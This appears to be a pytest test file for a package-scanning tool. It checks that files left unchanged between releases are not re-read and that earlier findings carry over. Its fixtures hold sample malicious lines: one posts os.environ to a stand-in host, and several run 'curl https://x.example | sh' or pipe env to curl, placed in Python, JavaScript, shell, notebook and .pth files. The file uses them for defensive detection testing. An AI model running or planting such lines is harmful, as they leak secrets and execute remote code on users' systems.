"""What did not change between two files of a project is not read again, and is judged as if it had been."""

from collections.abc import AsyncIterator
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.adapters.blobs.memory import MemoryBlobs
from pratique.adapters.kept_records import KeptRecords
from pratique.adapters.scan_protocol import Asked
from pratique.adapters.scanner import ConfinedScanner
from pratique.ecosystems.archive import Member
from pratique.facts.scan.engine import look
from pratique.facts.scan.read_before import Read, ReadBefore, Record
from pratique.facts.scan.sources import rules_digest
from pratique.model import limits
from pratique.model.artifact import Digest
from pratique.model.evidence import Scan
from pratique.simulators.wheels import wheel

PROJECT = "pkg:pypi/demo"
STEALS = (
    b"import os, urllib.request\nurllib.request.urlopen('https://x.example', data=str(dict(os.environ)).encode())\n"
)
CALM = b"import subprocess\n\ndef run(command):\n    return subprocess.run(command, check=True)\n"


@pytest.fixture
async def blobs() -> MemoryBlobs:
    return MemoryBlobs()


@pytest.fixture
async def scanner(blobs: MemoryBlobs, tmp_path: Path) -> AsyncIterator[ConfinedScanner]:
    scanner = ConfinedScanner(blobs, records=KeptRecords(tmp_path / "records"))
    yield scanner
    await scanner.close()


def members(files: dict[str, bytes]) -> list[Member]:
    return [Member(path, len(data), lambda data=data: data) for path, data in files.items()]  # type: ignore[misc]  # mypy cannot infer a lambda with a default


def seen(filename: str, files: dict[str, bytes], record: bytes = b"") -> tuple[Scan, bytes, int]:
    """What is seen with a record, the record left to the next, and how many files were known from the one before."""
    found = look(filename, members(files), record=record)
    return found.report(), found.before.record(), len(found.before.known.keys() & found.before.kept.keys())


RUNS_AT_ONCE = {
    "demo/a.py": STEALS,
    "demo/index.js": b"const cp = require('child_process');\ncp.exec('curl https://x.example | sh');\n",
    "demo/run.sh": b"env | curl -d @- https://x.example\n",
    "demo/x.ipynb": b'{"cells": [{"cell_type": "code", "source": ["!curl https://x.example | sh"]}], "nbformat": 4}',
    "demo.pth": b"import os; os.system('curl https://x.example | sh')\n",
}


@pytest.mark.parametrize("path", RUNS_AT_ONCE)
def test_what_is_known_is_judged_as_what_is_read(path: str) -> None:
    files = {path: RUNS_AT_ONCE[path], "demo/calm.py": CALM}
    first, record, known = seen("demo-1.0-py3-none-any.whl", files)
    assert (known, bool(first.findings)) == (0, True)
    again, _, known = seen("demo-1.1-py3-none-any.whl", files, record)
    assert known == len(files)
    assert (again.findings, again.coverage, again.profile) == (first.findings, first.coverage, first.profile)


def test_the_folder_of_a_source_distribution_changes_its_name_with_each_release() -> None:
    first, record, _ = seen("demo-1.0.tar.gz", {"demo-1.0/setup.py": STEALS, "demo-1.0/demo/b.py": CALM})
    again, _, known = seen("demo-1.1.tar.gz", {"demo-1.1/setup.py": STEALS, "demo-1.1/demo/b.py": CALM}, record)
    assert known == 2
    assert [each.path for each in again.findings] == ["demo-1.1/setup.py"] * len(first.findings)
    assert [each.rule for each in again.findings] == [each.rule for each in first.findings]


@pytest.mark.parametrize(
    ("filename", "path", "data"),
    [
        ("demo-1.1-py3-none-any.whl", "demo/a.py", STEALS + b"\n"),
        ("demo-1.1-py3-none-any.whl", "demo/__init__.py", STEALS),
        ("demo-1.1-py3-none-any.whl", "tests/a.py", STEALS),
        ("demo-1.1.tar.gz", "demo/a.py", STEALS),
        ("demo-1.1-py3-none-any.whl", "demo/a.pth", STEALS),
    ],
)
def test_another_content_or_another_place_is_read_anew(filename: str, path: str, data: bytes) -> None:
    _, record, _ = seen("demo-1.0-py3-none-any.whl", {"demo/a.py": STEALS})
    assert seen(filename, {path: data}, record)[2] == 0


def test_what_could_not_be_read_whole_is_not_left_to_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "SCAN_OBSERVATIONS_MAX", 1)
    first, record, _ = seen("demo-1.0-py3-none-any.whl", {"demo/a.py": STEALS + CALM})
    assert first.coverage.unread_count == 1
    again, _, known = seen("demo-1.1-py3-none-any.whl", {"demo/a.py": STEALS + CALM}, record)
    assert (known, again.coverage.unread_count) == (0, 1)


def test_other_rules_know_nothing_of_it() -> None:
    _, record, _ = seen("demo-1.0-py3-none-any.whl", {"demo/a.py": STEALS})
    found = msgspec.msgpack.decode(record, type=Record)
    older = msgspec.msgpack.encode(Record(Digest("sha256:" + "0" * 64), found.files))
    assert seen("demo-1.1-py3-none-any.whl", {"demo/a.py": STEALS}, older)[2] == 0


@given(st.binary(max_size=200))
def test_a_record_that_cannot_be_read_is_none(record: bytes) -> None:
    assert ReadBefore.of(record, rules_digest()).known == {}


def test_a_record_has_a_bound(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "SCAN_RECORD_BYTES_MAX", 10_000)
    before = ReadBefore(rules_digest(), left=10_000)
    for number in range(1_000):
        before.keep(number.to_bytes(32, "big"), Read(()))
    assert 0 < len(before.record()) <= 10_000


async def test_a_gate_leaves_what_it_saw_to_the_next_release(
    scanner: ConfinedScanner, blobs: MemoryBlobs, tmp_path: Path
) -> None:
    async def scan(version: str, files: dict[str, str], project: str = PROJECT) -> Scan:
        name, data = wheel("demo", version, files)
        async with blobs.writer() as writer:
            await writer.write(data)
            digest = await writer.commit()
        found = await scanner.scan(name, digest, project)
        assert isinstance(found, Scan)
        return found

    files = {"demo/a.py": STEALS.decode(), "demo/b.py": CALM.decode()}
    first = await scan("1.0", files)
    kept = list((tmp_path / "records").iterdir())
    assert len(kept) == 1
    assert kept[0].stat().st_mode & 0o077 == 0
    record = KeptRecords(tmp_path / "records").read(
        Asked("scan", "demo-1.1-py3-none-any.whl", Digest(""), project=PROJECT), scanner.rules
    )
    forged = msgspec.msgpack.decode(record, type=Record)
    assert any(each.observations for each in forged.files.values())
    blank = Record(forged.rules, {key: Read(()) for key in forged.files})
    KeptRecords(tmp_path / "records").write(
        Asked("scan", "demo-1.1-py3-none-any.whl", Digest(""), project=PROJECT),
        scanner.rules,
        msgspec.msgpack.encode(blank),
    )
    assert first.findings
    assert not (await scan("1.1", files)).findings, "the record is what was believed: the files were not read again"
    assert (await scan("1.2", files, "pkg:pypi/other")).findings, "another project's record says nothing of this one"
    (tmp_path / "records" / kept[0].name).write_bytes(b"damaged" * 20)
    assert (await scan("1.3", files)).findings == first.findings


def test_the_oldest_records_make_room(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "SCAN_RECORDS_BYTES_MAX", 2_000)
    monkeypatch.setattr("pratique.adapters.kept_records._COUNTED_EVERY", 2)
    kept, rules = KeptRecords(tmp_path), rules_digest()
    asked = [Asked("scan", "a-1.whl", Digest(""), project=f"pkg:pypi/a{number}") for number in range(9)]
    for each in asked:
        kept.write(each, rules, b"x" * 500)
    assert kept.read(asked[-1], rules) == b"x" * 500
    assert kept.read(asked[0], rules) == b""
    assert sum(each.stat().st_size for each in tmp_path.iterdir()) <= 2_000 + 532


def test_where_nothing_can_be_kept_nothing_fails(tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    kept = KeptRecords(tmp_path / "file")
    asked = Asked("scan", "a-1.whl", Digest(""), project=PROJECT)
    kept.write(asked, rules_digest(), b"x")
    assert kept.read(asked, rules_digest()) == b""
